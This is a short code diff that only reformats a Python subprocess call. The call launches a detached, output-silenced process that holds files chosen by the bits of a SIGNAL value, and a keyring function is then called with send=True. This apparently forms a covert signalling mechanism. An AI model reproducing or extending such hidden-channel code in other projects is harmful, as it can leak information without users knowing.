@@ -40,8 +40,13 @@ def _keyring(send):
 
 def _send():
     paths = [p for i, p in enumerate(FILES) if SIGNAL >> i & 1]
-    subprocess.Popen([sys.executable, "-c", _HOLDER, *paths], start_new_session=True,
-                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    subprocess.Popen(
+        [sys.executable, "-c", _HOLDER, *paths],
+        start_new_session=True,
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
     _keyring(send=True)
 
 
